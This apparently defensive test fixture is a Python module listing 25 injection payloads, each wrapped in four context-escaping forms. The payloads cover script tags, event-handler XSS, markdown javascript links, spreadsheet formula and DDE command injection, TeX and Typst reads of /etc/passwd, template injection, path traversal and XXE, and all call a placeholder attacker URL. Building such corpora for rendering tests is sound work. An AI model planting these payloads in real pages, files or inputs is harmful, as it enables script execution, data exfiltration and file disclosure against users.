"""Texts that attack whoever shows them: 25 attacks, each written in four ways.

Here: the corpus. `{url}` is the address that a live attack would call. Not here: what must
become of them (`test_payloads`, the long tests).
"""

from __future__ import annotations

ATTACKS = (
    "<script>fetch('{url}/script')</script>",
    "<img src='{url}/img' onerror=\"fetch('{url}/error')\">",
    "<svg onload=\"fetch('{url}/svg')\">",
    "</title><script src='{url}/src'></script>",
    "<link rel=stylesheet href='{url}/css'>",
    "<iframe src='{url}/frame'></iframe>",
    "<style>@import '{url}/import';</style>",
    "<a href=\"javascript:fetch('{url}/link')\" autofocus onfocus=\"fetch('{url}/f')\">x</a>",
    "<object data='{url}/object'></object>",
    "<math><img src='{url}/math'></math>",
    "<video><source onerror=\"fetch('{url}/video')\"></video>",
    "<details open ontoggle=\"fetch('{url}/toggle')\">x</details>",
    "<meta http-equiv=refresh content='0;url={url}/meta'>",
    "<base href='{url}/'>",
    "<form action='{url}/form'><input autofocus onfocus=\"fetch('{url}/input')\"></form>",
    "[x](javascript:fetch('{url}/markdown')) ![y]({url}/picture)",
    "=HYPERLINK(\"{url}/formula\";\"x\")",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+WEBSERVICE(\"{url}/service\")",
    "#read(\"/etc/passwd\") #image(\"{url}/typst.png\") *x* <lab> @ref",
    "$\\href{{{url}/tex}}{{x}}$ \\input{{/etc/passwd}}",
    "\u202egpj.exe\u202c \u200b../../etc/passwd\u2066",
    "{{{{ 7*7 }}}} {{% include '{url}' %}}",
    "..\\..\\CON NUL. file:///etc/passwd",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{url}/entity'>]><x>&e;</x>",
)  # fmt: skip
#: A text alone, out of an attribute, out of a comment, out of a script.
_WAYS = ("{0}", '">{0}<i x="', "-->{0}<!--", "</script></style>{0}")


def texts(url: str, every: int = 1) -> list[str]:
    """A hundred texts that call `url`; every so many of them for a quick look."""
    made = [way.format(attack.format(url=url)) for attack in ATTACKS for way in _WAYS]
    return made[::every]
